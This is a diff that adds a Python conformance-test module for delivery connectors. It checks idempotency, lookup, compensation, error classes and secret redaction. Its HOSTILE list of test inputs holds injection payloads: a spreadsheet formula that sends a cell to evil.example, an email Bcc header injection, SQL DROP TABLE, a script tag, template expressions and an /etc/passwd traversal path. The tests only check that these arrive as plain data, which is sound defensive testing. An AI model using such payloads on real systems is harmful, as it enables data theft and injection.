@@ -1,0 +1,283 @@
+"""What every connector must hold, as named checks against a receiver that keeps a ledger."""
+
+from __future__ import annotations
+
+from collections.abc import Awaitable, Callable, Mapping, Sequence
+from dataclasses import dataclass
+from itertools import count
+from typing import Protocol
+
+from roadbed.kernel.json import JsonObject
+from roadbed.usecases.destinations import (
+    Connector,
+    Outside,
+    Parcel,
+    RefusedError,
+    Sent,
+    TemporaryError,
+    UnknownOutcomeError,
+)
+
+HOSTILE = (
+    'it\'s "quoted" \\ and 50 %',
+    "first\r\nBcc: all@example.org\r\n\r\nsecond",
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "+1+1",
+    "@SUM(A1)",
+    "'); DROP TABLE result; --",
+    "<script>alert(1)</script> & <!channel>",
+    "{task.id} %(key)s ${HOME} {{ 7 * 7 }}",
+    "../../etc/passwd",
+    "naïve 日本語 🛣",
+)
+_numbers = count(1)
+
+
+class Ledger(Protocol):
+    """What the receiver itself knows, read past the connector."""
+
+    async def standing(self, parcel: Parcel) -> Sequence[Sequence[str]]:
+        """The effects that stand for this parcel, each as the texts in it."""
+        ...
+
+
+class ConformanceError(AssertionError):
+    """A connector does not do what the relay relies on."""
+
+
+class NotApplicable(Exception):  # noqa: N818 - no error: the check has nothing to look at
+    """The subject was given without what this check needs."""
+
+
+@dataclass(frozen=True, kw_only=True)
+class Subject:
+    """A connector under test, and the same one pointed at trouble.
+
+    ``unreachable`` where nobody listens; ``cut`` through a proxy that cuts when the answer comes;
+    ``refusing`` at a receiver that refuses for good. The content of ``make_parcel`` must reach the
+    receiver: ``output.note`` above all.
+    """
+
+    connector: Connector
+    ledger: Ledger
+    outside: Callable[[], Outside]
+    unreachable: Connector | None = None
+    cut: Connector | None = None
+    refusing: Connector | None = None
+    secrets: Sequence[str] = ()
+
+    async def send(self, parcel: Parcel) -> Sent:
+        """Send it by the connector that should work."""
+        return await self.connector.send(parcel, self.outside())
+
+
+Check = Callable[[Subject], Awaitable[None]]
+
+
+def make_parcel(note: str = "by hand", *, key: str | None = None) -> Parcel:
+    """A parcel with a key of its own, and ``note`` in what it carries."""
+    number = next(_numbers)
+    content: JsonObject = {"queue": "returns", "note": note, "count": number}
+    task = f"tsk_{number:06}"
+    return Parcel(
+        id=f"dlv_{number:06}",
+        key=key or f"check-{number:06}",
+        use_case="check",
+        task_id=task,
+        destination="receiver",
+        kind="result",
+        content=content,
+        facts={"task": {"id": task}, "input": {"text": note}, "output": content},
+        attempt=1,
+    )
+
+
+async def check_connector(
+    connector: Connector,
+    ledger: Ledger,
+    outside: Callable[[], Outside],
+    *,
+    unreachable: Connector | None = None,
+    cut: Connector | None = None,
+    refusing: Connector | None = None,
+    secrets: Sequence[str] = (),
+) -> Mapping[str, str]:
+    """Every check by name with ``held``, or ``not looked at``. See ``Subject`` for the rest.
+
+    Raises ``ConformanceError`` that names each check that failed.
+    """
+    subject = Subject(
+        connector=connector,
+        ledger=ledger,
+        outside=outside,
+        unreachable=unreachable,
+        cut=cut,
+        refusing=refusing,
+        secrets=secrets,
+    )
+    found: dict[str, str] = {}
+    failed: list[str] = []
+    for name, check in CHECKS.items():
+        try:
+            await check(subject)
+            found[name] = "held"
+        except NotApplicable:
+            found[name] = "not looked at"
+        except Exception as error:
+            failed.append(f"{name}: {error or type(error).__name__}")
+    if failed:
+        raise ConformanceError(f"{connector.kind} failed.\n" + "\n".join(failed))
+    return found
+
+
+async def settings_are_sound(subject: Subject) -> None:
+    """``problems()`` finds none in the connector that works."""
+    _hold(not subject.connector.problems(), f"it complains: {list(subject.connector.problems())}")
+
+
+async def a_parcel_makes_one_effect(subject: Subject) -> None:
+    """Sent once, it stands once."""
+    parcel = make_parcel()
+    await subject.send(parcel)
+    await _stands(subject, parcel, 1)
+
+
+async def a_repeated_key_makes_no_second_effect(subject: Subject) -> None:
+    """Where the receiver knows keys, five attempts are one effect."""
+    if subject.connector.key_horizon is None:
+        raise NotApplicable
+    parcel = make_parcel()
+    for _ in range(5):
+        await subject.send(parcel)
+    await _stands(subject, parcel, 1)
+
+
+async def looking_up_finds_what_was_sent_and_nothing_else(subject: Subject) -> None:
+    """``None`` before, found after, and a neighbour's key is not mistaken for it."""
+    if not subject.connector.can_look_up:
+        raise NotApplicable
+    parcel, neighbour = make_parcel(), make_parcel()
+    before = await subject.connector.look_up(parcel, subject.outside())
+    _hold(before is None, "it found what was never sent")
+    await subject.send(parcel)
+    found = await subject.connector.look_up(parcel, subject.outside())
+    _hold(found is not None, "it did not find what was sent")
+    other = await subject.connector.look_up(neighbour, subject.outside())
+    _hold(other is None, "it took another parcel's effect for this one's")
+
+
+async def taking_back_twice_is_once(subject: Subject) -> None:
+    """Nothing stands after, the second time changes nothing, a neighbour is left alone."""
+    if not subject.connector.can_compensate:
+        raise NotApplicable
+    parcel, neighbour = make_parcel(), make_parcel()
+    sent = await subject.send(parcel)
+    await subject.send(neighbour)
+    for _ in range(2):
+        await subject.connector.compensate(parcel, sent, subject.outside())
+        await _stands(subject, parcel, 0)
+    await _stands(subject, neighbour, 1)
+    if subject.connector.can_look_up:
+        found = await subject.connector.look_up(parcel, subject.outside())
+        _hold(found is None, "it still finds what was taken back")
+
+
+async def what_it_cannot_do_it_refuses(subject: Subject) -> None:
+    """``look_up`` and ``compensate`` never answer as if, where they cannot."""
+    parcel = make_parcel()
+    if not subject.connector.can_look_up:
+        looked = subject.connector.look_up(parcel, subject.outside())
+        await _raises(looked, RefusedError, "looking up")
+    if not subject.connector.can_compensate:
+        taken = subject.connector.compensate(parcel, Sent(), subject.outside())
+        await _raises(taken, RefusedError, "taking back")
+
+
+async def nobody_listening_is_temporary(subject: Subject) -> None:
+    """Nothing was sent: it may be tried again."""
+    await _fails(subject, subject.unreachable, TemporaryError)
+
+
+async def a_cut_after_sending_is_unknown(subject: Subject) -> None:
+    """It may have happened: never say that it did not."""
+    await _fails(subject, subject.cut, UnknownOutcomeError)
+
+
+async def a_refusal_is_for_good(subject: Subject) -> None:
+    """The same again would fail again: a person has to look."""
+    await _fails(subject, subject.refusing, RefusedError)
+
+
+async def secrets_are_never_shown(subject: Subject) -> None:
+    """Neither by the connector nor by its errors."""
+    shown = [repr(subject.connector), *subject.connector.problems()]
+    for each in (subject.unreachable, subject.cut, subject.refusing):
+        if each is not None:
+            try:
+                await each.send(make_parcel(), subject.outside())
+            except Exception as error:
+                shown += [repr(each), repr(error), repr(error.__cause__)]
+    for secret in subject.secrets:
+        _hold(not any(secret in text for text in shown), "a secret stands in a text of it")
+
+
+async def hostile_text_stays_data(subject: Subject) -> None:
+    """Quotes, line breaks, formulas, SQL, HTML, templates arrive as they were."""
+    for note in HOSTILE:
+        parcel = make_parcel(note)
+        await subject.send(parcel)
+        standing = await subject.ledger.standing(parcel)
+        _hold(len(standing) == 1, f"{note!r} made {len(standing)} effects")
+        carried = any(_lines(note) in _lines(text) for text in standing[0])
+        _hold(carried, f"{note!r} did not arrive as it was: {standing[0]}")
+
+
+CHECKS: Mapping[str, Check] = {
+    check.__name__: check
+    for check in (
+        settings_are_sound,
+        a_parcel_makes_one_effect,
+        a_repeated_key_makes_no_second_effect,
+        looking_up_finds_what_was_sent_and_nothing_else,
+        taking_back_twice_is_once,
+        what_it_cannot_do_it_refuses,
+        nobody_listening_is_temporary,
+        a_cut_after_sending_is_unknown,
+        a_refusal_is_for_good,
+        secrets_are_never_shown,
+        hostile_text_stays_data,
+    )
+}
+
+
+async def _stands(subject: Subject, parcel: Parcel, wanted: int) -> None:
+    found = len(await subject.ledger.standing(parcel))
+    _hold(found == wanted, f"{found} effects stand at the receiver instead of {wanted}")
+
+
+async def _fails(subject: Subject, connector: Connector | None, kind: type[Exception]) -> None:
+    if connector is None:
+        raise NotApplicable
+    await _raises(connector.send(make_parcel(), subject.outside()), kind, "sending")
+
+
+async def _raises(doing: Awaitable[object], kind: type[Exception], what: str) -> None:
+    try:
+        await doing
+    except kind:
+        return
+    except Exception as error:
+        raise ConformanceError(
+            f"{what} raised {type(error).__name__} ({error}), not {kind.__name__}"
+        ) from error
+    raise ConformanceError(f"{what} passed, instead of {kind.__name__}")
+
+
+def _hold(condition: bool, otherwise: str) -> None:  # noqa: FBT001 - as an assert
+    if not condition:
+        raise ConformanceError(otherwise)
+
+
+def _lines(text: str) -> str:
+    """Mail and workbooks have line ends of their own."""
+    return text.replace("\r\n", "\n").replace("\r", "\n")
